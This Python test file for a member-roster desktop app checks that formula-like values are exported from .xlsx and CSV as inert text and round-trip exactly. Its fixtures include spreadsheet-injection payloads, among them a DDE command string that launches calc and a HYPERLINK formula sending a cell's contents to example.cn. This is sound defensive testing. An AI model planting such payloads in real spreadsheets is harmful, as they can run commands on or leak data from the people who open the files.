"""Member values that look like spreadsheet formulas (= + - @ at the start) are exported as text:
never a live formula in the .xlsx, neutralised with a quote in the CSV, and read back exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import openpyxl
import pytest

from dangjian_desktop.core.members import create_member
from dangjian_desktop.core.roster_export import export_roster
from dangjian_desktop.core.roster_import import import_roster
from dangjian_desktop.core.roster_read import clean_cell
from dangjian_desktop.db.connection import open_database
from tests.conftest import TODAY, run_cli
from tests.test_roster_export import _snapshot
from tests.test_roster_sheets import make_id

HOSTILE = [
    {"name": "-王建国", "address": '=HYPERLINK("http://example.cn/?id="&E4,"点这里")',
     "job": "=cmd|' /C calc'!A0", "landline": "+86 10 12345678", "note": "-3"},
    {"name": "@李秀英", "native_place": "=1+1", "hardship_note": "+1", "introducers": "'=王五",
     "flow_unit": "@SUM(1+1)", "party_post": "-", "phone": "+86 139 1234 5678"},
    {"name": "赵强", "address": "'-东坡村", "note": "''+两个引号", "job": "=", "transferred_in_from": "@",
     "native_place": '="东坡"', "flow_destination": "'=x"},
]


def _add_hostile_members() -> None:
    for n, values in enumerate(HOSTILE):
        create_member({**values, "id_number": make_id(dt.date(1970, 1, 1 + n), n % 2 == 0, seq=20 + n),
                       "joined_on": dt.date(1999, 7, 1), "full_member_on": dt.date(2000, 7, 1)}, today=TODAY)


def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(opened, tmp_path):
    _add_hostile_members()
    path = export_roster(tmp_path / "花名册.xlsx", today=TODAY).path
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert '=HYPERLINK("http://example.cn/?id="&E4,"点这里")' in texts
    assert {"=cmd|' /C calc'!A0", "-王建国", "@李秀英", "=1+1", "+86 10 12345678", "-3", "''=王五", '\'="东坡"'} <= texts
    hyperlink = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix


def test_xlsx_export_of_a_branch_named_like_a_formula_has_a_text_title(opened, tmp_path):
    from dangjian_desktop.db.models import Branch

    Branch.create(name="=1+2")
    path = export_roster(tmp_path / "花名册.xlsx", today=TODAY).path
    ws = openpyxl.load_workbook(path).active
    assert (ws["A1"].value, ws["A1"].data_type) == ("=1+2党员花名册", "s")


def test_csv_export_neutralises_formula_starts_with_a_quote(opened, tmp_path):
    _add_hostile_members()
    path = export_roster(tmp_path / "花名册.csv", today=TODAY).path
    records = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    fields = [f for record in records[1:] for f in record]
    for field in fields:
        if field[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert field.startswith('="') and field.endswith('"') and '"' not in field[2:-1], field
    assert "'=HYPERLINK(\"http://example.cn/?id=\"&E4,\"点这里\")" in fields
    assert set(fields) >= {"'-王建国", "'@李秀英", "'=1+1", "'+86 10 12345678", "'-3", "''=王五", "'-", "'''+两个引号",
            "'=", "'@", "''-东坡村", "''=x", "'=\"东坡\""}
    assert "13912345678" in fields


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_formula_like_values_round_trip_exactly(opened, tmp_path, suffix):
    _add_hostile_members()
    before = _snapshot()
    path = export_roster(tmp_path / f"花名册{suffix}", today=TODAY).path
    opened.close()
    fresh = open_database(tmp_path / "fresh.sqlite3")
    try:
        report = import_roster(path, today=TODAY)
        assert report.to_json() == {"imported": 3, "updated": 0, "unchanged": 0, "invalid": [], "ignored": []}
        assert _snapshot() == before
    finally:
        fresh.close()


def test_quote_prefix_is_read_only_before_a_formula_start():
    assert clean_cell("'=1+1") == "=1+1"
    assert clean_cell("''-3") == "'-3"
    assert clean_cell("'@") == "@"
    assert clean_cell("'王建国") == "'王建国"        # a quote before anything else is the user's
    assert clean_cell("'") == "'"
    assert clean_cell('="370124"') == "370124"      # the exporter's own text wrapper
    assert clean_cell("'=\"370124\"") == '="370124"'


def test_cli_export_then_import_gives_back_the_same_members(opened, tmp_path):
    _add_hostile_members()
    opened.close()
    source = tmp_path / "branch.sqlite3"
    for suffix in (".xlsx", ".csv"):
        out = tmp_path / f"导出{suffix}"
        done = run_cli("members", "export", "--out", str(out), db=source)
        assert done.returncode == 0, done.stderr.decode()
        target = tmp_path / f"again{suffix}.sqlite3"
        done = run_cli("members", "import", str(out), "--json", db=target)
        assert done.returncode == 0, done.stderr.decode()
        assert json.loads(done.stdout)["imported"] == 3
        listed = [json.loads(run_cli("members", "list", "--json", db=db).stdout) for db in (source, target)]
        strip = [[{k: v for k, v in m.items() if k != "id"} for m in members] for members in listed]
        assert strip[0] == strip[1]
